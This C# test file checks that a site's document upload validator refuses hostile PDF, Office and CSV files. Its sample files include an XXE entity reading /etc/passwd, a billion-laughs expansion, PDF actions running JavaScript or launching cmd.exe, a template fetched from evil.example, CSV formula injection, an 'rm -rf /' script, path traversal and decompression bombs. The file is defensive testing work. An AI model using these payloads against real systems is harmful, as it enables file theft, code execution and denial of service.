using System.Diagnostics;
using System.IO.Compression;
using System.Text;
using Almaty2020.Tests.Support;
using Almaty2020.Web.Localization;
using Almaty2020.Web.Publishing.Model;
using Almaty2020.Web.Publishing.Pictures;
using Microsoft.EntityFrameworkCore;

namespace Almaty2020.Tests.Publishing.Pictures;

/// <summary>Which documents the library takes, and what it reads in them. One database for all files.</summary>
public sealed class UploadDocumentTests(ITestOutputHelper output) : IAsyncLifetime
{
    private const int Megabyte = 1024 * 1024;

    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    private TestDatabase database = null!;

    /// <summary>Files by what they try, with the reason of the refusal; null for one that is taken.</summary>
    private static readonly (string Name, Func<byte[]> File, PictureRefusal? Reason)[] Hostile =
    [
        // PDF
        ("a PDF head only", () => "%PDF-1.7\n"u8.ToArray(), PictureRefusal.DocumentDamaged),
        ("a PDF cut in the middle", () => TestDocuments.Pdf(pages: 9)[..400], PictureRefusal.DocumentDamaged),
        ("a PDF without objects", () => "%PDF-1.7\n%%EOF\n"u8.ToArray(), PictureRefusal.DocumentDamaged),
        ("a PDF without pages", () => TestDocuments.PdfOf(["<< /Type /Catalog >>"], "/Root 1 0 R"), PictureRefusal.DocumentDamaged),
        (
            "noise that begins as PDF",
            () => [.. "%PDF-1.7\n"u8, .. Noise(50_000), .. "\nstartxref\n9\n%%EOF"u8],
            PictureRefusal.DocumentDamaged
        ),
        (
            "a PDF behind a page",
            () => [.. "<!DOCTYPE html><script>alert(1)</script>"u8, .. TestDocuments.Pdf()],
            PictureRefusal.UnknownType
        ),
        ("a PDF with an archive behind it", () => [.. TestDocuments.Pdf(), .. Archive()], PictureRefusal.DocumentHidesOtherContent),
        ("a PDF behind an archive", () => [.. Archive(), .. TestDocuments.Pdf()], PictureRefusal.DocumentHidesOtherContent),
        (
            "a PDF with a password",
            () =>
                TestDocuments.PdfOf(
                    [
                        "<< /Type /Catalog /Pages 2 0 R >>",
                        "<< /Type /Pages /Count 1 /Kids [3 0 R] >>",
                        "<< /Type /Page /Parent 2 0 R >>",
                        $"<< /Filter /Standard /V 2 /R 3 /Length 128 /P -44 /O <{new string('1', 64)}> /U <{new string('2', 64)}> >>",
                    ],
                    "/Root 1 0 R /Encrypt 4 0 R /ID [<01> <01>]"
                ),
            PictureRefusal.Encrypted
        ),
        (
            "a PDF that runs a script",
            () => TestDocuments.Pdf(catalog: "/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"),
            PictureRefusal.Macros
        ),
        (
            "a PDF that starts a program",
            () => TestDocuments.Pdf(catalog: "/OpenAction << /S /Launch /F (cmd.exe) >>"),
            PictureRefusal.Macros
        ),
        ("a PDF with named scripts", () => TestDocuments.Pdf(catalog: "/Names << /JavaScript << /Names [] >> >>"), PictureRefusal.Macros),
        (
            "a PDF with an attachment",
            () => TestDocuments.Pdf(catalog: "/Names << /EmbeddedFiles << /Names [] >> >>"),
            PictureRefusal.DocumentHidesOtherContent
        ),
        ("a PDF that claims a billion pages", () => Replace(TestDocuments.Pdf(), "/Count 1", "/Count 999999999"), null),
        ("a PDF of 20,000 pages", () => TestDocuments.Pdf(pages: 20_000), PictureRefusal.TooComplex),
        (
            "a PDF whose pages contain themselves",
            () =>
                TestDocuments.PdfOf(
                    [
                        "<< /Type /Catalog /Pages 2 0 R >>",
                        "<< /Type /Pages /Count 2 /Kids [2 0 R 3 0 R] >>",
                        "<< /Type /Page /Parent 2 0 R >>",
                    ],
                    "/Root 1 0 R"
                ),
            null
        ),
        ("a PDF that refers to itself", () => TestDocuments.Pdf(catalog: "/Lang 5 0 R /MarkInfo 5 0 R", objects: ["5 0 R"]), null),
        (
            "a PDF with 200,000 nested lists",
            () => TestDocuments.Pdf(catalog: "/Deep " + new string('[', 200_000)),
            PictureRefusal.DocumentDamaged
        ),
        (
            "a PDF with 100,000 nested dictionaries",
            () => TestDocuments.Pdf(catalog: "/Deep " + string.Concat(Enumerable.Repeat("<< /A ", 100_000))),
            PictureRefusal.DocumentDamaged
        ),
        ("a PDF with deep pages", DeepPages, null),
        (
            "a PDF with 5 million numbers",
            () => TestDocuments.Pdf(catalog: $"/Many [{string.Concat(Enumerable.Repeat("0.5 ", 5_000_000))}]"),
            PictureRefusal.TooComplex
        ),
        ("a PDF bomb", PdfBomb, PictureRefusal.TooComplex),
        ("a PDF with a description of 100 KB", () => TestDocuments.Pdf(information: $"/Author ({new string('a', 100_000)})"), null),
        // Office
        ("an archive", Archive, PictureRefusal.Archive),
        ("an empty archive", () => TestDocuments.Zip([]), PictureRefusal.Archive),
        ("a Java program", () => TestDocuments.Zip([("META-INF/MANIFEST.MF", "Main-Class: A"u8.ToArray())]), PictureRefusal.Archive),
        (
            "a DOCX cut in the middle",
            () => TestDocuments.Docx() is var file ? file[..(file.Length / 2)] : [],
            PictureRefusal.DocumentDamaged
        ),
        ("a DOCX with damaged parts", () => Damage(TestDocuments.Docx([("word/big.xml", Noise(5_000))])), PictureRefusal.DocumentDamaged),
        ("a DOCX with bytes behind it", () => [.. TestDocuments.Docx(), .. "MZ"u8], PictureRefusal.DocumentHidesOtherContent),
        ("a DOCM", () => TestDocuments.Docx(mainType: "application/vnd.ms-word.document.macroEnabled.main+xml"), PictureRefusal.Macros),
        ("a DOCX with macros", () => TestDocuments.Docx([("word/vbaProject.bin", [1, 2, 3])]), PictureRefusal.Macros),
        (
            "a DOCX with macros in a table",
            () => TestDocuments.Docx([("word/embeddings/a.xlsx", TestDocuments.Docx([("xl/vbaProject.bin", [1])]))]),
            PictureRefusal.Macros
        ),
        (
            "a DOCX with ActiveX",
            () => TestDocuments.Docx([("word/activeX/activeX1.xml", TestDocuments.Xml("<a/>"))]),
            PictureRefusal.Macros
        ),
        (
            "a DOCX with a template elsewhere",
            () =>
                TestDocuments.Docx([
                    (
                        "word/_rels/settings.xml.rels",
                        TestDocuments.Xml(
                            "<Relationships><Relationship Type=\"http://x/attachedTemplate\" Target=\"https://evil.example/a.dotm\" TargetMode=\"External\"/></Relationships>"
                        )
                    ),
                ]),
            PictureRefusal.Macros
        ),
        (
            "an ODT with macros",
            () => TestDocuments.OpenDocument(more: ("Basic/Standard/Module1.xml", TestDocuments.Xml("<a/>"))),
            PictureRefusal.Macros
        ),
        ("an ODT with a password", () => TestDocuments.OpenDocument(manifest: "<manifest:encryption-data/>"), PictureRefusal.Encrypted),
        (
            "a DOCX with a password",
            () => [0xD0, 0xCF, 0x11, 0xE0, .. new byte[600], .. Encoding.Unicode.GetBytes("EncryptedPackage"), .. new byte[600]],
            PictureRefusal.Encrypted
        ),
        ("a DOC", () => [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, .. new byte[2000]], PictureRefusal.OldOffice),
        ("a DOCX that reads a file", () => TestDocuments.Docx([("word/a.xml", Xxe)]), PictureRefusal.DocumentHidesOtherContent),
        (
            "a DOCX whose list of parts reads a file",
            () => TestDocuments.Zip([("[Content_Types].xml", Xxe)]),
            PictureRefusal.DocumentDamaged
        ),
        ("a billion laughs", () => TestDocuments.Docx([("word/a.xml", Laughs)]), PictureRefusal.DocumentHidesOtherContent),
        ("a DOCX bomb", () => TestDocuments.Docx([("word/a.xml", new byte[200 * Megabyte])]), PictureRefusal.TooComplex),
        (
            "a DOCX bomb of many parts",
            () => TestDocuments.Docx(Enumerable.Range(0, 6_000).Select(n => ($"word/{n}.xml", Array.Empty<byte>()))),
            PictureRefusal.TooComplex
        ),
        ("a DOCX whose sizes are wrong", WrongSize, PictureRefusal.DocumentDamaged),
        (
            "a DOCX with a program",
            () => TestDocuments.Docx([("word/media/a.png", [.. "MZ"u8, .. new byte[500]])]),
            PictureRefusal.DocumentHidesOtherContent
        ),
        ("a DOCX with an archive", () => TestDocuments.Docx([("word/media/a.png", Archive())]), PictureRefusal.DocumentHidesOtherContent),
        (
            "a DOCX that leaves its folder",
            () => TestDocuments.Docx([("../../evil.xml", TestDocuments.Xml("<a/>"))]),
            PictureRefusal.DocumentHidesOtherContent
        ),
        (
            "a DOCX with two parts of one name",
            () => TestDocuments.Docx([("word/document.xml", TestDocuments.Xml("<a/>"))]),
            PictureRefusal.DocumentDamaged
        ),
        (
            "a DOCX with deep nesting",
            () => TestDocuments.Docx([("word/a.xml", Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("<a>", 100_000))))]),
            null
        ),
        (
            "a DOCX with a deep description",
            () => TestDocuments.Docx([("word/_rels/a.rels", Encoding.ASCII.GetBytes(string.Concat(Enumerable.Repeat("<a>", 100_000))))]),
            PictureRefusal.DocumentDamaged
        ),
        // Text
        ("a program", () => [.. "MZ"u8, .. new byte[500]], PictureRefusal.UnknownType),
        ("a page", () => "<!DOCTYPE html>,<script>alert(1)</script>\na,b\n"u8.ToArray(), PictureRefusal.UnknownType),
        ("a shell script", () => "#!/bin/sh\nrm -rf /\n"u8.ToArray(), PictureRefusal.UnknownType),
        ("a table with formulas", () => TestDocuments.Csv("a,b\n1,=cmd|'/C calc'!A0\n"), PictureRefusal.Macros),
        ("a table with a formula behind a sign", () => TestDocuments.Csv("a,b\n1,+cmd|A0\n"), PictureRefusal.Macros),
        ("a table with telephone numbers", () => TestDocuments.Csv("a,b\n-5,+7 727 200-00-00\n"), null),
        ("a table in quotes with formulas", () => TestDocuments.Csv("a;b\n1;\"=HYPERLINK(1)\"\n"), PictureRefusal.Macros),
        (
            "a table of Russian Windows",
            () => [0xC0, 0xC1, (byte)',', 0xC2, (byte)'\n', 0xC3, (byte)',', 0xC4, (byte)'\n'],
            PictureRefusal.NotUtf8
        ),
        ("a table with an open quotation mark", () => TestDocuments.Csv("a,b\n1,\"2\n"), PictureRefusal.UnknownType),
    ];

    public async ValueTask InitializeAsync() => database = await TestDatabase.EmptyAsync();

    public ValueTask DisposeAsync() => database.DisposeAsync();

    /// <summary>Prints what each file costs. Allocated memory is an upper bound of what is held at once.</summary>
    [Fact]
    public async Task HostileFiles_AreEachRefusedWithTheirReason_OrTaken()
    {
        var wrong = new List<string>();
        foreach (var (name, make, reason) in Hostile)
        {
            var file = make();
            var (allocated, start) = (GC.GetTotalAllocatedBytes(), Stopwatch.GetTimestamp());

            var outcome = await TestPictures.UploadAsync(database, file, "report.pdf");

            output.WriteLine(
                $"{name, -45} {file.Length / 1024, 6} KB {(GC.GetTotalAllocatedBytes() - allocated) / Megabyte, 5} MB allocated {Stopwatch.GetElapsedTime(start).TotalMilliseconds, 7:F0} ms  {outcome.GetType().Name} {(outcome as UploadPicture.Outcome.Refused)?.Reason}"
            );
            var found = (outcome as UploadPicture.Outcome.Refused)?.Reason;
            if (found != reason)
                wrong.Add($"{name}: {found?.ToString() ?? "taken"} instead of {reason?.ToString() ?? "taken"}");
        }

        Assert.Equal([], wrong);
        await using var db = database.Open();
        Assert.Equal(Hostile.Count(h => h.Reason is null), await db.Pictures.CountAsync(Ct));
    }

    [Fact]
    public async Task Documents_AreKeptByteForByte_WithWhatTheySayOfThemselves()
    {
        var pdf = TestDocuments.Pdf(pages: 14, isTagged: true, catalog: "/Lang (kk-KZ)");
        var tagged = await TestPictures.AddAsync(database, "Бюджет 2019.docx", pdf);
        var scanned = await TestPictures.AddAsync(database, "scan.pdf", TestDocuments.Pdf(hasText: false, information: ""));
        var word = await TestPictures.AddAsync(database, "report.txt", TestDocuments.Docx());

        Assert.Equal(
            (PictureType.Pdf, "byudzhet-2019", pdf.Length, Language.Kazakh),
            (tagged.Type, tagged.Key, tagged.ByteCount, tagged.DocumentLanguage)
        );
        Assert.Equal(
            new DocumentFacts
            {
                Pages = 14,
                Title = "Budget",
                Author = TestDocuments.Author,
                Producer = "Writer 7",
                CreatedAtUtc = new DateTime(2019, 3, 1, 12, 0, 0, DateTimeKind.Utc),
                LanguageCode = "kk-KZ",
                IsTagged = true,
                HasText = true,
            },
            tagged.Document
        );
        Assert.Equal(
            new DocumentFacts
            {
                Pages = 1,
                IsTagged = false,
                HasText = false,
            },
            scanned.Document
        );
        Assert.Null(scanned.DocumentLanguage);
        Assert.Equal(
            ("Report", TestDocuments.Author, "Word", (int?)null, (bool?)null, Language.Russian),
            (
                word.Document!.Title,
                word.Document.Author,
                word.Document.Producer,
                word.Document.Pages,
                word.Document.IsTagged,
                word.DocumentLanguage
            )
        );
        await using var db = database.Open();
        Assert.Equal(pdf, await db.PictureOriginals.Where(o => o.PictureId == tagged.Id).Select(o => o.Content).SingleAsync(Ct));
    }

    [Fact]
    public async Task FormatsOfOffice_AreKnownByTheirContent()
    {
        (byte[] File, PictureType Type)[] files =
        [
            (TestDocuments.Xlsx(), PictureType.Xlsx),
            (TestDocuments.Pptx(), PictureType.Pptx),
            (TestDocuments.OpenDocument(), PictureType.Odt),
            (TestDocuments.OpenDocument("spreadsheet"), PictureType.Ods),
            (TestDocuments.Csv(), PictureType.Csv),
            (TestDocuments.Csv("\uFEFFа;ә\r\n\"1\n2\";3\r\n"), PictureType.Csv),
        ];
        foreach (var (file, type) in files)
            Assert.Equal(type, (await TestPictures.AddAsync(database, "a.exe", file)).Type);
    }

    private static byte[] Xxe => TestDocuments.Xml("<!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]><a>&x;</a>");

    private static byte[] Laughs =>
        TestDocuments.Xml(
            $"<!DOCTYPE a [<!ENTITY l0 \"ha\">{string.Concat(Enumerable.Range(1, 30).Select(n => $"<!ENTITY l{n} \"&l{n - 1};&l{n - 1};\">"))}]><a>&l30;</a>"
        );

    private static byte[] Archive() => TestDocuments.Zip([("a.txt", "hidden"u8.ToArray())]);

    private static byte[] Noise(int length)
    {
        var noise = new byte[length];
        new Random(20).NextBytes(noise);
        return noise;
    }

    private static byte[] Replace(byte[] file, string old, string with) =>
        Encoding.Latin1.GetBytes(Encoding.Latin1.GetString(file).Replace(old, with, StringComparison.Ordinal));

    /// <summary>Overwrites the inside of the largest part.</summary>
    private static byte[] Damage(byte[] file)
    {
        var at = file.Length / 2;
        file.AsSpan(at, 500).Fill(0xFF);
        return file;
    }

    /// <summary>10,000 levels of pages.</summary>
    private static byte[] DeepPages()
    {
        const int Levels = 10_000;
        return TestDocuments.PdfOf(
            [
                "<< /Type /Catalog /Pages 2 0 R >>",
                .. Enumerable.Range(2, Levels).Select(n => $"<< /Type /Pages /Count 1 /Kids [{n + 1} 0 R] >>"),
                "<< /Type /Page >>",
            ],
            "/Root 1 0 R"
        );
    }

    /// <summary>The catalog lies in a stream of 100 MB of blanks.</summary>
    private static byte[] PdfBomb()
    {
        using var packed = new MemoryStream();
        using (var zlib = new ZLibStream(packed, CompressionLevel.SmallestSize, leaveOpen: true))
        {
            zlib.Write("1 0 2 30 "u8);
            zlib.Write("<< /Type /Catalog /Pages 2 0 R >>"u8);
            zlib.Write(Encoding.ASCII.GetBytes(new string(' ', 100 * Megabyte)));
        }

        // The table of objects must be a stream too, to point into the first one: type 2, stream 3, index 0.
        byte[] table = [0, 0, 0, 0, 2, 0, 3, 0, 2, 0, 3, 1, 1, 0, 9, 0];
        using var file = new MemoryStream();
        file.Write("%PDF-1.7\n"u8);
        file.Write(
            Encoding.ASCII.GetBytes($"3 0 obj\n<< /Type /ObjStm /N 2 /First 9 /Filter /FlateDecode /Length {packed.Length} >>\nstream\n")
        );
        file.Write(packed.ToArray());
        file.Write("\nendstream\nendobj\n"u8);
        var at = file.Position;
        file.Write(Encoding.ASCII.GetBytes($"4 0 obj\n<< /Type /XRef /Size 4 /W [1 2 1] /Root 1 0 R /Length {table.Length} >>\nstream\n"));
        file.Write(table);
        file.Write(Encoding.ASCII.GetBytes($"\nendstream\nendobj\nstartxref\n{at}\n%%EOF\n"));
        return file.ToArray();
    }

    /// <summary>A part of 200 MB whose directory says 1 KB.</summary>
    private static byte[] WrongSize()
    {
        var file = TestDocuments.Docx([("word/a.xml", new byte[200 * Megabyte])]);
        var size = BitConverter.GetBytes(200 * Megabyte);
        for (var at = file.AsSpan().IndexOf(size); at >= 0; at = file.AsSpan().IndexOf(size))
            BitConverter.GetBytes(1024).CopyTo(file.AsSpan(at));
        return file;
    }
}
